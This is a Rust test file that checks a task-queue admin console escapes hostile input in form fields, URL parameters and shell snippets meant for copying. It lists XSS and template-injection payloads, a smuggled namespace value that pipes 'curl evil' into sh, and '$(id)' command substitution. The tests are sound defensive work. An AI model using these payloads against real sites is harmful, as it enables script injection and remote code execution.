//! Texts that would be markup or script if they were not escaped, in every field that takes a text, on every page. Seen to fail: with a
//! reason that was put into the page as it is.

use super::{
    browser::Browser,
    pages::{check, every_page, fill},
};
use crate::access::site::{ADMIN, AccessSite};
use serde_json::json;

const CORPUS: [&str; 7] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title></pre><iframe src=javascript:alert(1)>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %>",
    "\u{202e}&lt;b&gt;&#x3c;script&#x3e;<b onmouseover=alert(1)>",
];

#[tokio::test]
async fn whatever_comes_from_outside_is_shown_as_text() {
    for text in CORPUS {
        let site = AccessSite::sqlite().await;
        let there = fill(&site, text).await;
        let mut browser = Browser::signed_in(&site, ADMIN).await;
        browser.submit("/console/tokens/new", &[("name", text), ("role", "viewer")]).await.expect(200);
        let mut shown = 0;
        for (_, address, _) in every_page(&there) {
            let page = browser.get(&address).await;
            check(&address, &page);
            for markup in [
                "<script>alert",
                "<img src=x",
                "<svg/onload",
                "<iframe",
                "<b onmouseover",
                "</textarea><script",
            ] {
                assert!(!page.text.contains(markup), "{address} has {markup} of {text:?}");
            }
            shown += usize::from(page.text.contains("alert(1)"));
        }
        assert!(shown >= 5, "it was looked for where it is: {shown} {text:?}");
    }
}

#[tokio::test]
async fn what_stands_in_an_address_is_shown_as_text() {
    let site = AccessSite::sqlite().await;
    let mut browser = Browser::signed_in(&site, ADMIN).await;
    let evil = "%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    for address in [
        format!("/console/find?q={evil}"),
        format!("/console/tasks?queue={evil}&label={evil}&due_after={evil}&col={evil}"),
        format!("/console/queues?prefix={evil}&paused={evil}"),
        format!("/console/queues/{evil}"),
        format!("/console/queues/{evil}/settings"),
        format!("/console/tasks/{evil}"),
        format!("/console/tasks/picked?action=cancel&ref={evil}"),
        format!("/console/dead-letters?error={evil}"),
        format!("/console/bulk/new?queue={evil}&error={evil}&action={evil}"),
        format!("/console/preferences?back={evil}"),
        format!("/console/login?next={evil}&why={evil}"),
        format!("/console/executors/{evil}"),
        format!("/console/audit?action={evil}&since={evil}"),
    ] {
        let page = browser.get(&address).await;
        assert!(!page.text.contains("<script>alert"), "{address}");
    }
}

#[tokio::test]
async fn what_is_copied_into_a_terminal_runs_nothing_of_what_stands_in_it() {
    let site = AccessSite::sqlite().await;
    let mut browser = Browser::signed_in(&site, ADMIN).await;
    for page in ["", "/engines", "/settings", "/queues", "/audit"] {
        let address = format!("/console{page}?ns=x%27%3Bcurl%20evil%7Csh%3B%27");
        let page = browser.get(&address).await.expect(400);
        page.must_have("is not a name of a namespace");
        assert!(!page.text.contains("data-copy"), "{address}");
        browser.get("/console/json?call=/v1/me&ns=x%27").await.expect(400);
    }
    let text = "it's $(id) `id`";
    let task = site.insert("shop", json!({"queue": "mail", "delay_ms": 60_000, "payload": text})).await;
    let page = browser.get(&format!("/console/tasks/{task}?ns=shop")).await.expect(200);
    let shell = page.text.replace("&quot;", "\"").replace("&#39;", "'");
    assert!(shell.contains(r"it'\''s $(id) `id`"), "{shell}");
    assert!(shell.contains("-H 'Punctual-Namespace: shop'"), "{shell}");
}
